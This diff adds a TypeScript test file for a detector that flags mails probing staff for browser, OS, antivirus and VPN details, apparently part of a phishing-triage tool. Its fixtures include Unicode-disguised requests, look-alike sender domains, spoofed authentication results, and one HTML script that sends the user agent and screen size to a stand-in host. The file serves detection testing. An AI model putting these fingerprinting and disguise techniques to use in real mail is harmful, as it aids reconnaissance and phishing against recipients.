@@ -1,0 +1,384 @@
+/** What mails ask for: in four languages, in disguise, and by whom. All mails but those of the last part are made up here. */
+import { existsSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, test } from "vitest";
+import { alikeLetters, foldWords } from "../src/content/mail-phrases.ts";
+import { foldedSql } from "../src/detect/mail.ts";
+import { temporaryFolder } from "./support/files.ts";
+import { type Asked, askedBy, type Letter, results } from "./support/letters.ts";
+import { missing, shared } from "./support/places.ts";
+import { content, triageDocument } from "./support/triage.ts";
+import { Workbench } from "./support/workbench.ts";
+
+const folder = temporaryFolder();
+let runs = 0;
+const ask = (letters: Readonly<Record<string, Letter>>) => askedBy(join(folder, `${++runs}`), letters);
+
+/** Texts by themselves, each in a mail of its own sender and subject. */
+async function askAll(texts: readonly string[], html = false): Promise<ReadonlyMap<string, Asked>> {
+  return ask(
+    Object.fromEntries(
+      texts.map((text, index) => [
+        text,
+        { text, html, from: `jo@partner-${index}.test`, subject: `Good morning number ${"i".repeat(index)}` },
+      ]),
+    ),
+  );
+}
+
+describe("phrases", () => {
+  test.each(content().mail.languages.map((language) => [language.title, language] as const))(
+    "%s: the samples of the catalogue",
+    async (_, { samples }) => {
+      const found = await askAll([...samples.asks.map(({ text }) => text), ...samples.tells]);
+      for (const { text, kinds } of samples.asks)
+        expect(found.get(text)?.kinds, text).toEqual(inOrder(kinds));
+      for (const text of samples.tells) expect(found.get(text)?.sentence, text).toBeUndefined();
+    },
+  );
+
+  test("kinds of items are those that a report can name", () => {
+    const known = Object.keys(content().mail.signs.kinds);
+    for (const { items } of content().mail.languages)
+      expect(known).toEqual(expect.arrayContaining(Object.keys(items)));
+  });
+
+  test("the engine folds texts as the catalogue folds its words", async () => {
+    const { signs } = content().mail;
+    const bench = await Workbench.open();
+    const texts = [
+      "Größe: ÉTÉ (très)",
+      "ＶＰＮ-Ｃｌｉｅｎｔ",
+      "bro\u200bw\u00adser",
+      "с\u0440а е",
+      "a/b_c",
+      "x — y",
+    ];
+    const rows = await bench.engine.rows(
+      `SELECT trimBoth(${foldedSql("text", content().mail)}) AS folded FROM (SELECT arrayJoin({texts:Array(String)}) AS text)`,
+      { texts },
+    );
+    await bench.close();
+    expect(rows.map(({ folded }) => folded)).toEqual(
+      texts.map((text) => foldWords(text, alikeLetters(signs)).trim()),
+    );
+    expect(foldWords("bro\u200bw\u00adser", alikeLetters(signs))).toBe("browser");
+  });
+});
+
+/** Kinds in the order of the catalogue. */
+function inOrder(kinds: readonly string[]): string[] {
+  return Object.keys(content().mail.signs.kinds).filter((kind) => kinds.includes(kind));
+}
+
+describe("own wording", () => {
+  const asking: readonly (readonly [string, readonly string[]])[] = [
+    [
+      "We are updating our records. Kindly provide the following details:\n1. Operating system and version\n2. Antivirus product\n3. VPN client",
+      ["system", "security", "vpn"],
+    ],
+    ["We kindly ask all staff to reply to this message stating: browser, operating system, antivirus.", ["browser", "system", "security"]],
+    ["If you could tell us which VPN client you use, that would help.", ["vpn"]],
+    ["Hi, quick one: what browser are you on? Need it for a report.", ["browser"]],
+    [
+      "Please complete the attached questionnaire on your remote access software and your proxy settings.",
+      ["remote", "network"],
+    ],
+    ["Press Windows+R, type msinfo32 and save the report.\n\nForward the file to this address.", ["output"]],
+    ["Could you please export the VPN profile (.ovpn) and attach it to your reply?", ["vpn", "profile"]],
+    ["Open chrome://version and paste everything you see into your reply.", ["output"]],
+    [
+      "Wir aktualisieren die Liste. Bitte nennen Sie uns Ihren Virenscanner und das Betriebssystem.",
+      ["security", "system"],
+    ],
+    ["Könntest du mir kurz deinen Rechnernamen und die Windows-Version schicken?", ["device", "system"]],
+    ["Bitte fügen Sie einen Screenshot der VPN-Einstellungen bei.", ["screenshot", "vpn"]],
+    [
+      "Nous mettons à jour l'inventaire : merci d'indiquer votre antivirus et la version de Windows.",
+      ["security", "system"],
+    ],
+    ["Pouvez-vous nous dire quel logiciel de messagerie vous utilisez ?", ["mail"]],
+    ["Necesitamos saber qué antivirus tiene instalado y la versión de Windows.", ["security", "system"]],
+    ["¿Podría indicarnos qué navegador usa?", ["browser"]],
+  ];
+  const telling: readonly string[] = [
+    "Please let us know how you like the courses on Word, Outlook and Teams.",
+    "The maintenance is on Sunday. Your browser version will be checked by the portal when you sign in.",
+    "Thanks for your help. My operating system is Windows 11 and I use Firefox 128.",
+    "Security advisory: all versions of the VPN client before 5.1 are affected. Update your VPN client now.",
+    "We collect your browser type and operating system when you visit our site, see our privacy notice.",
+    "Please send the signed contract by Friday.",
+    "View this message in your browser. Unsubscribe.",
+    "Here is the screenshot of my proxy settings that you wanted.",
+    "Ihr Virenscanner wurde automatisch aktualisiert. Bitte starten Sie Ihren Rechner neu.",
+    "Ich nutze Outlook in der Version 2019 und habe einen Screenshot angehängt.",
+    "Votre navigateur n'est plus pris en charge : merci d'installer la dernière version.",
+    "Su antivirus se actualizó. No es necesario responder a este mensaje.",
+    "How to find your IP address: open a command prompt and run ipconfig.",
+  ];
+  test("asks", async () => {
+    const found = await askAll(asking.map(([text]) => text));
+    for (const [text, kinds] of asking) expect(found.get(text)?.kinds, text).toEqual(inOrder(kinds));
+  });
+  test("tells", async () => {
+    const found = await askAll(telling);
+    expect([...found].map(([text, { sentence }]) => `${text}: ${sentence}`)).toEqual([]);
+  });
+});
+
+describe("disguises", () => {
+  const hidden = [
+    "Please send us your bro\u200bwser ver\u200csion.",
+    "Please send us your brow\u00adser version.",
+    "Please send us your br\u043ewser v\u0435rsion.",
+    "PLEASE   SEND\u00a0US\n  your\tBROWSER\n version",
+    "Please send us your \uff42\uff52\uff4f\uff57\uff53\uff45\uff52 version.",
+    "Please send us your b r o w s e r  v e r s i o n now.",
+    "Please send us your br\u0301owser versi\u0308on.",
+  ];
+  test("do not hide what is asked for", async () => {
+    const found = await askAll(hidden);
+    for (const text of hidden) expect(found.get(text)?.kinds, text).toEqual(["browser"]);
+  });
+  test("neither do entities and lists of a page", async () => {
+    const pages = [
+      "<p>Please send us your &#98;&#114;owser &#x76;ersion.</p>",
+      "<p>Please reply with:</p><ul><li>your browser</li><li>your VPN client</li></ul>",
+    ];
+    const found = await askAll(pages, true);
+    expect(pages.map((page) => found.get(page)?.kinds)).toEqual([["browser"], ["browser", "vpn"]]);
+  });
+  test("what is quoted is not asked by this mail", async () => {
+    const question = "Please tell us which browser version you use.";
+    const found = await askAll([
+      `It is Firefox.\n\nOn 16 May 2026 at 10:00, Help <help@desk.test> wrote:\n> ${question}`,
+      `It is Firefox.\n\nAm 16.05.2026 um 10:00 schrieb Help <help@desk.test>:\n\n${question}`,
+      `It is Firefox.\n\nFrom: Help <help@desk.test>\nSent: Saturday, 16 May 2026\nTo: Ann\nSubject: Browser\n\n${question}`,
+      `It is Firefox.\n\n-----Original Message-----\n${question}`,
+    ]);
+    expect([...found.keys()]).toEqual([]);
+    const answered = `> How are you?\n\n${question}`;
+    expect((await askAll([answered])).get(answered)?.kinds).toEqual(["browser"]);
+  });
+});
+
+describe("who asks", () => {
+  const text = "Please reply with your browser version and the VPN client you use.";
+  const pass = results("pass", "pass", "pass");
+  /** Mails that make larch.example the domain to which most recipients belong. */
+  const ours: Readonly<Record<string, Letter>> = Object.fromEntries(
+    ["bob", "cy", "di"].map((name) => [
+      name,
+      { to: `${name}@larch.example`, from: `x@${name}.test`, text: "Hello." },
+    ]),
+  );
+
+  test.each([
+    ["larch-support.example", /words added/],
+    ["1arch.example", /look alike/],
+    ["larhc.example", /changed|look alike|authenticat/],
+    ["larch.test", /another ending/],
+    ["larch.example.sign-in.test", /beginning of a longer one/],
+    ["larchhelp.test", /words added/],
+  ])("a look-alike: %s", async (domain, says) => {
+    const found = await ask({ ...ours, false: { from: `it@${domain}`, text, fields: [pass] } });
+    const one = found.get("false");
+    expect(one?.sentence).toMatch(says);
+    if (domain !== "larhc.example") expect(one).toMatchObject({ severity: "high", action: "escalate" });
+  });
+
+  test("each sign by itself", async () => {
+    const found = await ask({
+      ...ours,
+      failed: {
+        from: "it@maple.test",
+        subject: "A failed result here",
+        text,
+        fields: [results("fail", "none", "fail")],
+      },
+      name: {
+        from: '"help@larch.example" <q@birch.test>',
+        subject: "Another name in front",
+        text,
+        fields: [pass],
+      },
+      company: {
+        from: '"Larch Service Desk" <q@beech.test>',
+        subject: "Our name in front of it",
+        text,
+        fields: [pass],
+      },
+      free: {
+        from: '"IT Support" <it.support@gmail.com>',
+        subject: "An office at a free provider",
+        text,
+        fields: [pass],
+      },
+      reply: {
+        from: "it@larch.example",
+        subject: "Answers go elsewhere",
+        text,
+        fields: [pass, "Reply-To: form@elm.test"],
+      },
+      spoofed: {
+        from: "it@larch.example",
+        subject: "Ours, and nothing proves it",
+        text,
+        fields: [results("none", "none", "none")],
+      },
+      inside: { from: "it@larch.example", subject: "Inventory by our own desk", text, fields: [pass] },
+      outside: { from: "jo@oak.test", subject: "A question of a partner", text, fields: [pass] },
+    });
+    for (const name of ["failed", "name", "company", "free", "reply", "spoofed"])
+      expect(found.get(name), name).toMatchObject({ severity: "high", action: "escalate" });
+    expect(found.get("inside")).toMatchObject({ severity: "low", action: "watch" });
+    expect(found.get("outside")).toMatchObject({ severity: "medium", action: "watch" });
+    expect(found.get("reply")?.sentence).toMatch(/elm\.test/);
+  });
+
+  test("three people make a campaign, in one mail or in several, which are one case", async () => {
+    const found = await ask({
+      ...ours,
+      ...Object.fromEntries(
+        [1, 2, 3].map((n) => [
+          `part ${n}`,
+          {
+            from: `jo@oak-${n}.test`,
+            to: `p${n}@larch.example`,
+            subject: `Survey of workplaces, part ${n}`,
+            text,
+            fields: [pass],
+          },
+        ]),
+      ),
+      once: {
+        from: "al@pine.test",
+        to: "a@larch.example, b@larch.example, c@larch.example",
+        subject: "To all of you at once",
+        text,
+        fields: [pass],
+      },
+      two: {
+        from: "ed@fir.test",
+        to: "a@larch.example, b@larch.example",
+        subject: "To the two of you only",
+        text,
+        fields: [pass],
+      },
+    });
+    for (const name of ["part 1", "part 2", "part 3", "once"])
+      expect(found.get(name)?.action, name).toBe("escalate");
+    expect(found.get("two")?.action).toBe("watch");
+    expect(new Set([1, 2, 3].map((n) => found.get(`part ${n}`)?.inCase)).size).toBe(1);
+    expect(found.get("part 1")?.inCase).not.toBe(found.get("once")?.inCase);
+  });
+
+  test("lists, trackers and answers to us ask whoever wanted that", async () => {
+    const found = await ask({
+      ...ours,
+      list: {
+        from: "dev@oak.test",
+        to: "users@lists.ash.test",
+        subject: "Crash on start",
+        text,
+        fields: ["List-Id: <users.lists.ash.test>", results("pass", "fail", "fail")],
+      },
+      claimed: {
+        from: "dev@yew.test",
+        to: "ann@larch.example",
+        subject: "A list in name only",
+        text,
+        fields: ["List-Id: <users.lists.yew.test>", pass],
+      },
+      tracker: { from: "bugzilla@ash.test", subject: "[Bug 4711] Crash on start", text, fields: [pass] },
+      question: {
+        from: "ann@larch.example",
+        to: "help@vendor.test",
+        subject: "Page is blank",
+        text: "It stays blank.",
+        fields: ["Message-ID: <q1@larch.example>"],
+      },
+      answer: {
+        from: "help@vendor.test",
+        to: "ann@larch.example",
+        subject: "Re: Page is blank",
+        text,
+        fields: ["Message-ID: <v1@vendor.test>", "In-Reply-To: <q1@larch.example>", pass],
+      },
+      joined: {
+        from: "help@vendor-care.test",
+        to: "ann@larch.example",
+        subject: "Re: Page is blank",
+        text,
+        fields: ["In-Reply-To: <q1@larch.example>", pass],
+      },
+    });
+    expect([...found.keys()].sort()).toEqual(["claimed", "joined"]);
+    expect(found.get("joined")).toMatchObject({ severity: "high", action: "escalate" });
+    expect(found.get("joined")?.sentence).toMatch(/joins a thread/);
+  });
+
+  test("a made-up thread: the quotation names a partner whose domain it is not", async () => {
+    const quoted = `${text}\n\nOn 15 May 2026, Kim <kim@alder.test> wrote:\n> The invoice is attached.`;
+    const found = await ask({
+      ...ours,
+      false: {
+        from: "kim@a1der-mail.test",
+        subject: "Re: Invoice of May",
+        text: quoted,
+        fields: ["In-Reply-To: <lost@alder.test>", pass],
+      },
+      true: {
+        from: "kim@alder.test",
+        subject: "Re: Invoice of June",
+        text: quoted,
+        fields: ["In-Reply-To: <lost@alder.test>", pass],
+      },
+    });
+    expect(found.get("false")?.sentence).toMatch(/joins a thread/);
+    expect(found.get("true")?.severity).toBe("medium");
+  });
+});
+
+describe("scripts and pages", () => {
+  test("a script that reads the client asks, one property does not", async () => {
+    const found = await ask({
+      reads: {
+        html: true,
+        text: "<p>Open it.</p><script>let a=[navigator.userAgent,screen.width];fetch('https://collect.test/?'+a)</script>",
+      },
+      plain: {
+        html: true,
+        from: "x@elm.test",
+        subject: "Newsletter",
+        text: "<p>News.</p><script>if(navigator.appName=='x')document.write('y')</script>",
+      },
+    });
+    expect([...found.keys()]).toEqual(["reads"]);
+    expect(found.get("reads")?.sentence).toMatch(/user agent, screen/);
+  });
+  test("a page that checks the browser counts under a false sender only", async () => {
+    const text = "Please click https://check.test/ to run the browser check before Monday.";
+    const found = await ask({
+      false: { from: "it@elm.test", text, fields: [results("fail", "fail", "fail")] },
+      plain: {
+        from: "it@oak.test",
+        subject: "Webinar on Monday",
+        text,
+        fields: [results("pass", "pass", "pass")],
+      },
+    });
+    expect([...found.keys()]).toEqual(["false"]);
+  });
+});
+
+describe("real mails", () => {
+  const mails = join(shared, "data", "mail_spamassassin");
+  test("none of 750 asks", async (context) => {
+    if (!existsSync(mails)) context.skip(missing(mails));
+    const document = await triageDocument([mails]);
+    expect(document.sources.reduce((sum, { events }) => sum + events, 0)).toBe(750);
+    expect(document.indicators.find(({ id }) => id === "phish.config-request")?.ran).toBe(true);
+    expect(document.findings.map(({ entity, sentence }) => `${entity}: ${sentence}`)).toEqual([]);
+  });
+});
